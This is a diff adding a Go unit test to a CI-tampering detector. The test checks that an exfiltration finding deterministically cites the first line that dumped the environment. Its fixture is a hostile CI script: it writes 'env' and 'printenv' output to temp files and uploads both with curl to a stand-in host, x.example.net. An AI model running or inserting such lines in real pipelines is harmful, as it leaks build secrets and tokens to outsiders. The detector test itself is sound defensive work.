@@ -102,3 +102,16 @@ func FuzzCITampering(f *testing.F) {
 		}
 	})
 }
+
+// A line that sends two files the environment was written to cites the
+// first line that wrote one, every time (a map's order used to choose).
+func TestCIExfilCitesFirstDump(t *testing.T) {
+	f := guard.FileChange{Path: "ci/upload.sh", Status: guard.Modified, AddedLines: detectortest.Lines(
+		"env > /tmp/one.txt\nprintenv > /tmp/two.txt\ncurl -F a=@/tmp/two.txt -F b=@/tmp/one.txt https://x.example.net/")}
+	for range 20 {
+		fs := detectortest.JudgeFiles(t, Detector, nil, f)
+		if len(fs) != 1 || len(fs[0].Evidence) != 2 || fs[0].Evidence[1] != "line 1: env > /tmp/one.txt" {
+			t.Fatalf("want the dump of line 1 cited: %+v", fs)
+		}
+	}
+}
